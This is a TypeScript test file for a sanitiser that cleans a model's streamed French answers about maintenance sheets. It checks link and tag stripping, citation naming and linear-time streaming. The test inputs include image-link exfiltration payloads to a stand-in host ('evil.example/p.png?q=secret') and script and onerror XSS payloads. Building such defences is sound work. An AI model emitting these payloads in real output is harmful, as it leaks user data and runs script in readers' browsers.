import { describe, expect, test } from "vitest";
import { createCleaner } from "./clean.ts";

const SHEETS = [
  { id: "rouet", titre: "Changer le rouet" },
  { id: "vidange", titre: "Vidanger le moteur" },
];
const whole = (text: string) => {
  const cleaner = createCleaner(SHEETS);
  cleaner.push(text);
  return cleaner.end();
};
const clean = (text: string) => whole(text).text;

describe("a model's text", () => {
  test("keeps the marks of our sheets", () => {
    const text =
      "## Avant\n\n1. Fermez la **vanne**.\n2. Dévissez.\n\n- un\n- deux\n\n| a | b |\n\n> Attention : chaud.";
    expect(clean(text)).toBe(text);
  });

  test.each([
    ["a picture of another host", "Voici ![x](https://evil.example/p.png?q=secret) la suite", "Voici  la suite"],
    ["a picture by reference", "![x][1] fin", " fin".trim()],
    ["a link", "Lisez [ceci](https://evil.example/a) vite", "Lisez ceci vite"],
    ["a bare address", "Voir https://evil.example/?d=1 ici", "Voir (lien retiré) ici"],
    ["an address without a scheme", "Voir www.evil.example/x ici", "Voir (lien retiré) ici"],
    ["a script", "A<script>alert(1)</script>B", "Aalert(1)B"],
    ["an HTML picture", 'A<img src=x onerror="alert(1)">B', "AB"],
    ["a tag that never closes", "A <img src=x onerror=alert(1)", "A"],
    ["a scheme that runs", "[x](javascript:alert(1)) javascript:alert(1)", "x (lien retiré)"],
    ["code marks", "```js\ntexte\n```", "js\ntexte"],
    ["deep headings", "#### Titre", "## Titre"],
    ["other bullets", "* un\n+ deux\n• trois", "- un\n- deux\n- trois"],
    ["italics", "un *mot* et **gras**", "un mot et **gras**"],
    ["rules", "a\n---\nb", "a\n\nb"],
    ["a quotation that is no warning", "> Cité", "Cité"],
    ["what hides or turns the text", "a\u202Eb\u200Bc\u0007", "abc"],
    ["many empty lines", "a\n\n\n\n\nb", "a\n\nb"],
  ])("loses %s", (_name, text, expected) => {
    expect(clean(text)).toBe(expected);
  });

  test("names the sheets it cites, and no other", () => {
    const { text, cited } = whole("Fermez la vanne [F1]. Puis [F7] videz [F2].");
    expect(text).toBe(
      "Fermez la vanne (fiche «\u00a0Changer le rouet\u00a0»). Puis videz (fiche «\u00a0Vidanger le moteur\u00a0»).",
    );
    expect(cited.map(({ id }) => id)).toEqual(["rouet", "vidange"]);
  });
});

test.each(["[", "![", "<a", "(", "a.", "[a](", "* ", "- ", "> ", "_", " [F"])(
  "20 000 characters of %j take about ten times as long as 2 000, not a hundred times",
  (piece) => {
    const cost = (characters: number) => {
      const before = process.cpuUsage();
      const cleaner = createCleaner(SHEETS);
      for (let n = 0; n < characters; n += piece.length) cleaner.push(piece);
      cleaner.end();
      return process.cpuUsage(before).user;
    };
    // why the best of three: a busy machine charges its own work to whoever runs
    const best = (characters: number) => Math.min(cost(characters), cost(characters), cost(characters));
    cost(2_000); // warm
    const few = best(2_000);
    expect(best(20_000)).toBeLessThan(40 * Math.max(few, 1_000));
  },
);

describe("a stream of it", () => {
  const pieces = (text: string, size: number) => text.match(new RegExp(`.{1,${size}}`, "gs")) ?? [];

  test.each([1, 3, 7, 40])("tells nothing that is to be taken out, in pieces of %i", (size) => {
    const cleaner = createCleaner(SHEETS);
    const sent = pieces(
      "Un ![pixel](https://evil.example/p.png) et <img src=x> puis https://evil.example/a fin [F1].\n- suite",
      size,
    ).map((piece) => cleaner.push(piece));
    expect(sent.join("")).not.toMatch(/https?:|<img/);
    expect(cleaner.end().text).toContain("(lien retiré) fin (fiche");
  });

  test("comes along word by word, and adds up to the text", () => {
    const cleaner = createCleaner(SHEETS);
    const sent = pieces("Fermez la vanne, puis dévissez le couvercle.\n1. Un.\n2. Deux.\n", 5).map((piece) =>
      cleaner.push(piece),
    );
    expect(sent.filter(Boolean).length).toBeGreaterThan(5);
    expect(sent.join("").trim()).toBe(cleaner.end().text);
  });
});
